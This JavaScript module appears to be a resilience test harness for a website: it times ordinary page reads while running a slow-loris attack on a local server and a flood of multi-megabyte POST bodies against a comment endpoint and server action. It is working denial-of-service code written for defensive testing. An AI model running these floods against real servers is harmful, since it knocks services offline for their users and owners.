// @ts-check
// Hostile traffic: a slow-loris and a flood of oversized requests, while readers keep reading.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

/** @param {unknown} error @returns {string} the network error's code or name */
const failureName = (error) => {
  const failure = /** @type {any} */ (error)
  return String(failure?.cause?.code ?? failure?.name ?? failure)
}

/**
 * Readers reading article pages for the duration: how many pages they got, and how fast (ms).
 * @param {{ urls: string[], concurrency: number, durationMs: number }} options
 */
export async function readPages({ urls, concurrency, durationMs }) {
  /** @type {number[]} */
  const latencies = []
  let ok = 0
  let failed = 0
  /** @type {Map<string, number>} */
  const failures = new Map()
  const until = Date.now() + durationMs
  /** @param {number} n */
  async function reader(n) {
    for (let i = n; Date.now() < until; i += concurrency) {
      const started = performance.now()
      try {
        const response = await fetch(urls[i % urls.length], { signal: AbortSignal.timeout(15_000) })
        await response.arrayBuffer()
        if (response.ok) ok += 1
        else {
          failed += 1
          failures.set(`HTTP ${response.status}`, (failures.get(`HTTP ${response.status}`) ?? 0) + 1)
        }
      } catch (error) {
        failed += 1
        const key = failureName(error)
        failures.set(key, (failures.get(key) ?? 0) + 1)
      }
      latencies.push(performance.now() - started)
      await sleep(20)
    }
  }
  await Promise.all(Array.from({ length: concurrency }, (_, n) => reader(n)))
  return { ok, failed, failures, latencies }
}

/**
 * Hundreds of sockets that start a request and send its headers one byte at a time, never
 * finishing: each holds a connection for as long as the server lets it.
 * @param {{ port: number, sockets: number, path: string, byteEveryMs: number, durationMs: number }} options
 */
export async function slowLoris({ port, sockets, path, byteEveryMs, durationMs }) {
  /** @type {import('node:net').Socket[]} */
  const opened = []
  /** @type {number[]} */
  const closedAfterMs = []
  let refused = 0
  const header = `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slow-loris\r\n`
  const drip = 'X-Slow: ' + 'a'.repeat(4096)
  const until = Date.now() + durationMs
  /** @type {NodeJS.Timeout[]} */
  const timers = []
  for (let n = 0; n < sockets; n++) {
    const socket = connect(port, '127.0.0.1')
    const start = Date.now()
    let i = 0
    let closed = false
    socket.on('error', () => undefined)
    socket.on('connect', () => {
      socket.write(header)
      const timer = setInterval(() => {
        if (closed || Date.now() > until) return clearInterval(timer)
        socket.write(drip[i++ % drip.length])
      }, byteEveryMs)
      timers.push(timer)
    })
    socket.on('close', () => {
      closed = true
      if (Date.now() < until) closedAfterMs.push(Date.now() - start)
    })
    socket.once('error', () => (refused += 1))
    opened.push(socket)
    if (n % 50 === 49) await sleep(50)
  }
  await sleep(Math.max(0, until - Date.now()))
  for (const timer of timers) clearInterval(timer)
  const stillOpen = opened.filter((socket) => !socket.destroyed).length
  for (const socket of opened) socket.destroy()
  return { sockets, closedByServer: closedAfterMs.length, stillOpen, refused, closedAfterMs }
}

/**
 * Multi-megabyte bodies, as fast as `concurrency` clients can send them: to the comment endpoint
 * with a Content-Length, to the same endpoint chunked (no length announced), and to the article
 * page as a server action (the comment form's own action).
 * @param {{ siteUrl: string, commentPath: string, actionPath: string, actionHeaders: Record<string, string>, megabytes: number, concurrency: number, durationMs: number }} options
 */
export async function oversizedFlood({
  siteUrl,
  commentPath,
  actionPath,
  actionHeaders,
  megabytes,
  concurrency,
  durationMs,
}) {
  const size = megabytes * 1024 * 1024
  const payload = Buffer.alloc(size, 'a')
  const kinds = [
    {
      name: 'comment JSON, Content-Length',
      send: () =>
        fetch(`${siteUrl}${commentPath}`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: payload,
          signal: AbortSignal.timeout(30_000),
        }),
    },
    {
      name: 'comment JSON, chunked',
      send: () =>
        fetch(
          `${siteUrl}${commentPath}`,
          // `duplex` (needed for a streamed body) is missing from the DOM's RequestInit type.
          /** @type {RequestInit} */ (
            /** @type {unknown} */ ({
              method: 'POST',
              headers: { 'Content-Type': 'application/json' },
              body: chunked(payload),
              duplex: 'half',
              signal: AbortSignal.timeout(30_000),
            })
          ),
        ),
    },
    {
      name: 'server action, multipart',
      send: () => {
        const form = new FormData()
        form.set('body', new Blob([payload]), 'body.txt')
        return fetch(`${siteUrl}${actionPath}`, {
          method: 'POST',
          headers: actionHeaders,
          body: form,
          signal: AbortSignal.timeout(30_000),
        })
      },
    },
  ]
  /** @type {Map<string, Map<string, number>>} */
  const results = new Map(kinds.map((kind) => [kind.name, new Map()]))
  let sent = 0
  const until = Date.now() + durationMs
  /** @param {number} n */
  async function attacker(n) {
    for (let i = n; Date.now() < until; i++) {
      const kind = kinds[i % kinds.length]
      let key
      try {
        const response = await kind.send()
        await response.arrayBuffer().catch(() => undefined)
        key = `HTTP ${response.status}`
      } catch (error) {
        key = `connection closed (${failureName(error)})`
      }
      sent += 1
      const tally = /** @type {Map<string, number>} */ (results.get(kind.name))
      tally.set(key, (tally.get(key) ?? 0) + 1)
    }
  }
  await Promise.all(Array.from({ length: concurrency }, (_, n) => attacker(n)))
  return { sent, megabytes, results }
}

/**
 * @param {Buffer} buffer
 * @param {number} [chunk] bytes per piece
 */
function chunked(buffer, chunk = 64 * 1024) {
  let offset = 0
  return new ReadableStream({
    pull(controller) {
      if (offset >= buffer.length) return controller.close()
      controller.enqueue(buffer.subarray(offset, offset + chunk))
      offset += chunk
    },
  })
}
